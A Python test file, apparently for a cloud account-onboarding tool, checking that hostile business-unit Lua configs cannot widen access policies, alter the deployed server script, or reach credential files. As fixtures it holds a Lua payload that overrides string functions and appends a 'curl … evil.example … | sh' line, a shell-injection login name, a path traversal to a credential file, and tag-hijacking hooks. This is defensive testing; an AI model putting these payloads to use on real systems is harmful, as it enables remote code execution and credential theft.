#!/usr/bin/env python3
"""A hostile business-unit file (issue 8) can neither widen a policy nor
reach the server script or a file outside the project:
- a unit that rewrites string.gsub, string.format and table.concat (at load
  and from a hook) leaves every policy exactly as its template renders and
  the script exactly as shipped, with the values quoted;
- a login user carrying shell, a script name reaching for a credential
  file, a misspelt setting, a bad region: refused before any write, naming
  the file and the setting."""
import json
import os
import shutil
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import account  # noqa: E402
from account import tags, write_count  # noqa: E402
from sandbox import Sandbox  # noqa: E402
from tctest import SRC, Tap, tcrun  # noqa: E402

HEAD = "username,display_name,email,phone,business_unit,role,environments,cost_center,workspace\n"
EVIL = '{"version":"2.0","statement":[{"effect":"allow","action":["*"],"resource":["*"]}]}'
HOSTILE = r'''
local evil = '%s'
string.gsub = function() return evil, 1 end
string.format = function() return evil end
table.concat = function() return evil end
return { hooks = {
  after_user = function(e, w)
    string.gsub = function(s) return s .. "\ncurl -s https://evil.example/x | sh\n", 1 end
    string.rep = function() return evil end
  end,
  after_workspace = function(e, w) string.sub = function() return evil end end,
} }
''' % EVIL

t = Tap()
tmp = tempfile.mkdtemp(prefix="tcrun-hostile-")
conf = os.path.join(tmp, "conf")
os.makedirs(os.path.join(conf, "bu"))


def unit(name, body):
    with open(os.path.join(conf, "bu", name + ".lua"), "w") as f:
        f.write(body)


def roster(name, unit_name, user="mal.ice"):
    path = os.path.join(tmp, name + ".csv")
    with open(path, "w") as f:
        f.write(HEAD + "%s,Mal,%s@example.com,,%s,developer,dev,CC-H,yes\n" % (user, user, unit_name))
    return path


with Sandbox("--async-delay-ms", "100") as sb:
    env = account.tcrun_env(sb, os.path.join(tmp, "j"))

    def run(*a):
        return tcrun("--endpoint", sb.url, "--config", conf, *a, env=env, tap=t)

    unit("hostile", HOSTILE)
    r = run("onboard.lua", roster("hostile", "hostile"), "--out", os.path.join(tmp, "out"))
    t.eq(r.rc, 0, "onboarding someone of the hostile unit completes")
    if r.rc != 0:
        t.diag(r.out[-1500:] + r.err[-1500:])

    uin = account.read(sb, "cam", "GetUser", {"Name": "mal.ice"})["Uin"]
    envs = [e for e in account.envs(sb, "ap-shanghai") if tags(e).get("owner") == "mal.ice"]
    insts = [i for i in account.instances(sb, "ap-guangzhou") if tags(i).get("owner") == "mal.ice"]
    t.eq((len(envs), len(insts)), (1, 1), "one environment and one server")
    pols = {p["PolicyName"]: p["PolicyId"] for p in account.cam_pages(
        sb, "ListPolicies", {"Scope": "Local"}, "List")}
    ws = json.loads(account.read(sb, "cam", "GetPolicy", {"PolicyId": pols["tcrun-ws-mal.ice"]})["PolicyDocument"])
    allowed = sorted(r for s in ws["statement"] if s["effect"] == "allow" for r in s["resource"])
    t.eq(allowed, sorted(["qcs::tcb:ap-shanghai:uin/%d:env/%s" % (sb.owner_uin, envs[0]["EnvId"]),
                          "qcs::lighthouse:ap-guangzhou:uin/%d:instance/%s"
                          % (sb.owner_uin, insts[0]["InstanceId"])]),
         "the personal policy allows exactly their environment and server")
    role = json.loads(account.read(sb, "cam", "GetPolicy", {"PolicyId": pols["tcrun-dev-developer"]})
                      ["PolicyDocument"])
    with open(os.path.join(SRC, "policies", "role-developer.json")) as f:
        want = json.loads(f.read().replace("{{environment}}", "dev"))
    t.eq(role, want, "the shared role policy is its template's render")
    task = account.tasks(sb, insts[0]["InstanceId"], "ap-guangzhou")
    script = account.content(task[0]) if task else ""
    with open(os.path.join(SRC, "recipes", "scripts", "install_assistant.sh")) as f:
        shipped = f.read()
    expected = (shipped.replace("__TCB_ENV_ID__", "'%s'" % envs[0]["EnvId"])
                .replace("__TCB_REGION__", "'ap-shanghai'").replace("__OWNER__", "'mal.ice'")
                .replace("__LOGIN_USER__", "'ubuntu'"))
    t.ok(script == expected, "the server runs the shipped script, values quoted, nothing added",
         "\n".join(l for l in script.splitlines() if l not in expected.splitlines())[:500])

    # Settings that would reach the shell, a file, or the wrong place.
    bad = {
        "shell": ("return { assistant_login_user = \"ubuntu'; touch /tmp/PWNED; echo '\" }",
                  "setting 'assistant_login_user' is not a login name"),
        "steal": ("return { assistant_script = '../../../../home/x/.tccli/default.credential' }",
                  "setting 'assistant_script' is not a script file name in recipes/scripts"),
        "typo": ("return { server_regoin = 'ap-beijing' }",
                 "unknown setting 'server_regoin' (did you mean 'server_region'?)"),
        "mars": ("return { server_region = 'ap-mars-1' }",
                 "setting 'server_region' is not a region name like ap-guangzhou"),
    }
    for name, (body, why) in sorted(bad.items()):
        unit(name, body)
        n = write_count(sb)
        r = run("onboard.lua", roster(name, name, "u." + name), "--out", os.path.join(tmp, "o-" + name))
        t.ok(r.rc == 2 and ("%s.lua: %s" % (os.path.join(conf, "bu", name), why)) in r.err,
             "unit '%s': exit 2, naming the file and: %s" % (name, why), "rc %d\n%s" % (r.rc, r.err))
        t.eq(write_count(sb) - n, 0, "unit '%s': no write" % name)
    t.ok(not os.path.exists("/tmp/PWNED"), "nothing ran")

    # A hook cannot retag a workspace as someone else's, and a unit's
    # code cannot change its settings after they were checked.
    unit("thief", 'return { hooks = { after_workspace = function(e, w)\n'
                  '  w.ensure_tags({ owner = "mal.ice", ["owner-uin"] = "%d" })\n'
                  'end } }\n' % uin)
    unit("keeper", 'local T = {}\nreturn { tags = T, hooks = { after_user = function()\n'
                   '  T["owner-uin"] = "%d"; T.owner = "mal.ice" end } }\n' % uin)
    said = {}
    for name in ("thief", "keeper"):
        r = run("onboard.lua", roster(name, name, "u." + name), "--out", os.path.join(tmp, "o-" + name))
        said[name] = r.out
        mine = [e for e in account.envs(sb, "ap-shanghai") if tags(e).get("owner") == "u." + name]
        owners = [(tags(e).get("owner"), tags(e).get("owner-uin")) for e in mine]
        t.ok(len(mine) == 1 and owners[0][1] != str(uin), "unit '%s': u.%s's environment is still theirs"
             % (name, name), owners)
    t.like(said["thief"], 'ensure_tags: sets "owner", a tag tcrun sets itself',
           "ensure_tags refuses tcrun's own tags")

shutil.rmtree(tmp, ignore_errors=True)
t.done()
